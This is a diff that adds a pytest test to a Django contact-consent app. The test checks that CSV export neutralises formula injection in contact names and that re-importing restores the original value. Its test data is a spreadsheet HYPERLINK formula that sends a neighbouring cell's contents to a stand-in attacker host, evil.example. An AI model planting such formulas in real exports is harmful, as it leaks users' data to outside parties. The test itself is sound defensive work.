@@ -6,6 +6,7 @@ import io
 from datetime import timedelta
 
 import pytest
+from django.core.files.uploadedfile import SimpleUploadedFile
 from django.db import connection
 from django.urls import reverse
 from django.utils import timezone
@@ -137,6 +138,22 @@ def test_export_streams_the_current_filtered_view(operator_client, people):
     assert rows[0][:4] == ["phone", "name", "wa_id", "consent_state"]
     assert [r[0] for r in rows[1:]] == ["+442071230002"]
     assert rows[1][3:5] == ["opted_out", "whatsapp_keyword"] and rows[1][-1] == "closed"
+
+
+def test_export_writes_a_name_that_starts_a_formula_as_text_and_the_import_reads_it_back(
+        operator_client, django_capture_on_commit_callbacks):
+    name = '=HYPERLINK("https://evil.example/?"&A2,"open")'
+    Contact.objects.create(phone="+15551110001", name=name)
+    response = operator_client.get(reverse("consent:contact_export"))
+    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
+    assert rows[1][1] == "'" + name  # a spreadsheet shows it as text instead of running it
+    # The same cell pasted into an import file gives the name back, not the quoted one.
+    cell = io.StringIO()
+    csv.writer(cell).writerows([["phone", "name"], ["+15551110002", rows[1][1]]])
+    with django_capture_on_commit_callbacks(execute=True):
+        operator_client.post(reverse("consent:import_new"),
+                             {"file": SimpleUploadedFile("names.csv", cell.getvalue().encode(), "text/csv")})
+    assert Contact.objects.get(phone="+15551110002").name == name
 
 
 @pytest.mark.parametrize("params, index", [
